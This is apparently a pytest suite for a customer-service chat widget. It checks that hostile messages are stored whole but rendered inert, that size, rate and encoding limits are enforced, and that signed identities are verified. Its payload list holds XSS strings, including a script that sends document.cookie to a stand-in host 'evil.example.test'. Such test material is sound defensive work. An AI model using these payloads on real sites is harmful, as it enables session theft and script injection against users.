"""Hostile and bad input from the widget: stored whole, shown inert, refused with a clear error
when it breaks a limit; the socket and the chat survive whatever can be survived."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest
import websockets
from sqlalchemy import select

from callcenter.channels.chat.identity import sign
from crm_core.chat import ChatMessageRow
from tests.callcenter.chat.harness import (
    SECRET,
    chat_center,
    open_widget,
    ready_agent,
    seed_chat_agents,
    start_chat,
    store_for,
)

pytestmark = pytest.mark.timeout(90)

PAYLOADS = [
    "<script>fetch('http://evil.example.test/steal?c='+document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "javascript:alert(1) and http://ok.example.test/path?q=<x>",
    "\u202eevil right-to-left, emoji 😀 and a \U0001F4A9 pile",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    """Only links to http(s) and line breaks; no handler attribute anywhere."""
    p = _Tags()
    p.feed(html)
    for tag, attrs in p.tags:
        assert tag in ("a", "br"), html
        assert not any(k.startswith("on") for k in attrs), html
        if tag == "a":
            assert (attrs.get("href") or "").startswith(("http://", "https://")), html
            assert "noopener" in (attrs.get("rel") or ""), html


async def _active_chat(rc):
    agent, _ = await ready_agent(rc.base)
    w, welcome = await start_chat(rc.base)
    iid = welcome["chat_id"]
    offer = await agent.next("chat_offer", interaction_id=iid)
    await agent.send("chat_accept", offer_id=offer["offer_id"])
    await agent.next("chat_started", interaction_id=iid)
    await w.next("agent")
    return agent, w, iid


async def test_payloads_are_stored_whole_and_shown_inert(database):
    store = store_for(database)
    await seed_chat_agents(store)
    async with chat_center(database) as rc:
        agent, w, iid = await _active_chat(rc)
        for n, text in enumerate(PAYLOADS):
            await w.send("send", client_id=f"h{n}", text=text)
            ack = await w.next("message", client_id=f"h{n}")
            got = await agent.next("chat_message", interaction_id=iid, seq=ack["seq"])
            assert got["text"] == text
            assert_inert(got["html"])
            if text.startswith("javascript:alert(1) and http"):
                assert '<a href="http://ok.example.test/path?q=' in got["html"]
        await w.close()
        await agent.close()
    async with database.session() as s:
        bodies = (await s.execute(select(ChatMessageRow.body).where(ChatMessageRow.interaction_id == iid)
                                  .order_by(ChatMessageRow.seq))).scalars().all()
    assert bodies == PAYLOADS


async def test_limits_and_malformed_frames(database):
    store = store_for(database)
    await seed_chat_agents(store)
    async with chat_center(database, CC_CHAT__MAX_MESSAGE_CHARS="100", CC_CHAT__MAX_FRAME_BYTES="4096",
                           CC_CHAT__RATE_PER_SESSION="0.001", CC_CHAT__BURST_PER_SESSION="10") as rc:
        agent, w, iid = await _active_chat(rc)
        await w.send("send", client_id="long", text="x" * 101)
        err = await w.next("error", client_id="long")
        assert err["code"] == "too_large"
        await w.send_raw('{"type": "send", "client_id": "sur", "text": "bad \\udc80 text"}')
        assert (await w.next("error", client_id="sur"))["code"] == "invalid_text"
        await w.send("send", client_id="nul", text="a\u0000b")
        assert (await w.next("error", client_id="nul"))["code"] == "invalid_text"
        await w.send_raw("not json")
        assert (await w.next("error"))["code"] == "bad_message"
        await w.send_raw('{"type": "send", "client_id": "x", "text": "hi", "html": "<b>"}')
        assert (await w.next("error"))["code"] == "bad_message"
        await w.send_raw(b"\x00\x01binary")
        assert (await w.next("error"))["code"] == "bad_message"
        await w.send("send", client_id="empty", text="   ")
        assert (await w.next("error", client_id="empty"))["code"] == "invalid"
        # the burst (10, of which the 4 refused texts took 4), then the rate limit
        for n in range(6):
            await w.send("send", client_id=f"r{n}", text=f"ok {n}")
            await w.next("message", client_id=f"r{n}")
        await w.send("send", client_id="r6", text="one too many")
        assert (await w.next("error", client_id="r6"))["code"] == "rate_limited"
        # a frame over the size limit closes the socket (1009); the chat can be resumed
        await w.send_raw('{"type":"send","client_id":"big","text":"' + "y" * 5000 + '"}')
        with pytest.raises(websockets.ConnectionClosed) as closed:
            await w.next("message", timeout=5)
        assert closed.value.rcvd.code == 1009
        # a text frame that is not UTF-8 closes the socket (1007)
        w2, _ = await start_chat(rc.base, name="Other", email="other@example.com")
        await w2.ws.send(b"\xff\xfe not utf-8", text=True)
        with pytest.raises(websockets.ConnectionClosed) as closed:
            await w2.next("message", timeout=5)
        assert closed.value.rcvd.code == 1007
        await agent.close()
    async with database.session() as s:
        bodies = (await s.execute(select(ChatMessageRow.body).where(ChatMessageRow.interaction_id == iid)
                                  .order_by(ChatMessageRow.seq))).scalars().all()
    assert bodies == [f"ok {n}" for n in range(6)]


async def test_signed_identity_is_trusted_only_when_signed_right(database):
    store = store_for(database)
    await seed_chat_agents(store)
    known = await store.create_customer("Sam Signed", emails=["sam@example.com"])
    async with chat_center(database) as rc:
        agent, _ = await ready_agent(rc.base)
        for bad in ({"user_id": "u-42", "signature": sign("wrong-secret", "u-42")},
                    {"user_id": "u-43", "signature": sign(SECRET, "u-42")},
                    {"user_id": "u-42", "signature": "not-hex"}):
            w = await open_widget(rc.base)
            await w.next("status")
            await w.send("start", identity=bad)
            assert (await w.next("error"))["code"] == "bad_identity"
            await w.close()
        w = await open_widget(rc.base)  # unsigned: not even accepted by the schema
        await w.next("status")
        await w.send_raw('{"type": "start", "identity": {"user_id": "u-42"}}')
        assert (await w.next("error"))["code"] == "bad_message"
        await w.close()
        # signed right: recognised without the form, linked to the existing customer by email
        w = await open_widget(rc.base)
        await w.next("status")
        await w.send("start", email="sam@example.com",
                     identity={"user_id": "u-42", "signature": sign(SECRET, "u-42")})
        first = await w.next("welcome")
        offer = await agent.next("chat_offer", interaction_id=first["chat_id"])
        assert offer["verified"] is True and offer["pop"]["card"]["customer"]["id"] == known.id
        await w.send("end")
        await w.close()
        # next time the signed identity alone finds the same record
        w = await open_widget(rc.base)
        await w.next("status")
        await w.send("start", identity={"user_id": "u-42", "signature": sign(SECRET, "u-42")})
        second = await w.next("welcome")
        assert second["name"] == "Sam Signed"
        await w.close()
        await agent.close()
    assert (await store.identify(chat_id="shop:u-42")).id == known.id


async def test_leave_a_message_when_no_agent_is_there(database):
    store = store_for(database)
    await seed_chat_agents(store)
    async with chat_center(database) as rc:
        w = await open_widget(rc.base)
        assert (await w.next("status"))["agents_available"] is False
        await w.send("leave_message", name="Lea Late", email="lea@example.com",
                     text="Please call me back <script>x</script>")
        left = await w.next("left_message")
        await w.close()
    ticket = await store.get_ticket(left["ticket"])
    assert ticket.description == "Please call me back <script>x</script>"
    customer = await store.identify(email="lea@example.com")
    assert ticket.customer_id == customer.id
    card = await store.customer_card(customer.id)
    assert [i.channel for i in card.recent_interactions] == ["email"]
